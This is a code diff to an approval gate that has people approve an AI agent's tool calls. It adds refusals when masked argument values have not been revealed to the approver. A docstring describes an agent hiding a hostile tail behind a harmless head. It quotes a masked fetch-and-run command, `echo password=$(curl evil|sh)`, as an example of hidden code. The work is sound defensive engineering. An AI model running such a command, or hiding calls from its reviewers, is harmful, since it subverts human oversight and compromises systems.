@@ -37,6 +37,8 @@ class Refusal(enum.Enum):
     deadline_at_limit = "deadline_at_limit"
     #: an approval from a surface that could not show the call's arguments whole
     arguments_not_shown = "arguments_not_shown"
+    #: an approval of a call with a masked value the approver has not revealed
+    not_revealed = "masked_value_not_revealed"
 
     @property
     def status(self) -> int:
@@ -53,14 +55,34 @@ class Refusal(enum.Enum):
             Refusal.arguments_not_shown: (
                 "the arguments are too long to show here whole; review and approve in gate"
             ),
+            Refusal.not_revealed: (
+                "a masked value of the call was not revealed to you; reveal it on the "
+                "request page in gate and approve there"
+            ),
         }[self]
 
 
 #: the refusal's words for a call that fit where it was shown but where a mask could hide
-#: code: no card or page shows it whole; the API (`gate requests show`) shows it raw
+#: code no reveal shows (in a key, say): the API (`gate requests show`) shows it raw
 MASKED_CODE = (
     "a masked part of the arguments could hide code, so the whole call was not shown; read "
     "the raw arguments with `gate requests show <id>` (or the API) and approve there"
+)
+#: ... where a mask in text could hide code, on a card (which never reveals)
+MASKED_CODE_CARD = (
+    "a masked part of the arguments could hide code, so the whole call was not shown here; "
+    "reveal it on the request page in gate (or read the raw arguments with `gate requests "
+    "show <id>`) and approve there"
+)
+#: ... where a value under a secret-named key is masked whole, on a card
+MASKED_VALUE_CARD = (
+    "the {at} masked here: reveal it on the request page in gate and approve there (an "
+    "approval counts only once you have seen every masked value)"
+)
+#: ... on the request page, before the approver revealed every masked value
+NOT_REVEALED = (
+    "reveal the masked {at} first: an approval counts only once you have seen every value "
+    "masked on this page"
 )
 
 
@@ -72,7 +94,9 @@ class Actor:
     "slack"); `token` is the API token acted with, if any (never the one that asked);
     `bypass_approver_list` is set for admin tokens, which may decide any request but their
     own. `args_chars` is how many characters of a call's arguments the surface showed whole
-    (`gate.untrusted.shows_whole`); None for the API and the web page, which show them all.
+    (`gate.untrusted.shows_whole`); None for the API, which shows them raw. `revealed` holds
+    the masked values (JSON pointers, `gate.untrusted.masks`) this person revealed on the
+    request, on a surface that reveals (the web page); None where nothing is revealed (cards).
     """
 
     name: str
@@ -81,6 +105,7 @@ class Actor:
     token: str | None = None
     bypass_approver_list: bool = False
     args_chars: int | None = None
+    revealed: frozenset[str] | None = None
 
     @classmethod
     def of_principal(cls, principal: Principal, via: str = "api") -> Actor:
@@ -95,11 +120,16 @@ class Actor:
 
     @classmethod
     def of_approver(
-        cls, approver: ApproverSettings, via: str, *, args_chars: int | None = None
+        cls,
+        approver: ApproverSettings,
+        via: str,
+        *,
+        args_chars: int | None = None,
+        revealed: frozenset[str] | None = None,
     ) -> Actor:
-        """A person signed in to the web console, or identified by a chat platform (whose
-        card showed `args_chars` characters of the arguments)."""
-        return cls(name=approver.name, via=via, approver=approver, args_chars=args_chars)
+        """A person signed in to the web console (who `revealed` these masked values), or
+        identified by a chat platform (whose card showed `args_chars` characters)."""
+        return cls(approver.name, via, approver, args_chars=args_chars, revealed=revealed)
 
 
 @dataclass(frozen=True)
@@ -189,18 +219,42 @@ def approval_refusal(view: RequestView, actor: Actor) -> Result | None:
     or None when they may: their surface must have shown the call's arguments whole.
 
     A card cut to fit its platform hides the rest of the call, and an agent can put a
-    harmless head before a hostile tail; a card that masked code shaped like a secret
-    (`echo password=$(curl evil|sh)`) hides it too: nobody approves a call they could not read.
+    harmless head before a hostile tail; a mask hides what it covers: a value under a
+    secret-named key (`primary_key`, `auth`) masked whole, or code shaped like a secret
+    (`echo password=$(curl evil|sh)`). A mask that hides one credential token in text hides
+    nothing else; any other counts as shown only once this approver revealed it on the
+    request page (audited), which cards never do: nobody approves a call they could not read.
     Rejecting needs no such check (it fails closed).
     """
-    if actor.args_chars is None or untrusted.shows_whole(view.tool_args, actor.args_chars):
+    if actor.args_chars is None:
+        return None  # the API shows the arguments raw
+    args = view.tool_args
+    where = f" ({view.url})" if view.url and actor.revealed is None else ""
+    if len(untrusted.arguments_json(args)) > actor.args_chars:
+        why = Refusal.arguments_not_shown.sentence() + where
+        return _unseen(view, Refusal.arguments_not_shown, why)
+    masks = untrusted.masks(args)
+    if masks.unrevealable:
+        return _unseen(view, Refusal.arguments_not_shown, MASKED_CODE + where)
+    unseen = [p for p in masks.to_reveal if actor.revealed is None or p not in actor.revealed]
+    if not unseen:
         return None
-    refusal = Refusal.arguments_not_shown
-    why = refusal.sentence()
-    if len(untrusted.arguments_json(view.tool_args)) <= actor.args_chars:
-        why = MASKED_CODE  # they fit: a mask in them could hide code
-    where = f" ({view.url})" if view.url else ""
-    return Result(None, view, refusal, f"{why}{where}", refusal.value)
+    if actor.revealed is not None:
+        return _unseen(view, Refusal.not_revealed, NOT_REVEALED.format(at=_at(unseen)))
+    if masks.code:
+        return _unseen(view, Refusal.arguments_not_shown, MASKED_CODE_CARD + where)
+    at = _at(unseen) + (" is" if len(unseen) == 1 else " are")
+    return _unseen(view, Refusal.not_revealed, MASKED_VALUE_CARD.format(at=at) + where)
+
+
+def _unseen(view: RequestView, refusal: Refusal, why: str) -> Result:
+    return Result(None, view, refusal, why, refusal.value)
+
+
+def _at(paths: list[str]) -> str:
+    """ "value at /password", or "values at /a, /b, /c and 2 more"."""
+    shown = ", ".join(paths[:3]) + (f" and {len(paths) - 3} more" if len(paths) > 3 else "")
+    return f"value at {shown}" if len(paths) == 1 else f"values at {shown}"
 
 
 def requester_identities(settings: Settings, view: RequestView) -> set[str]:
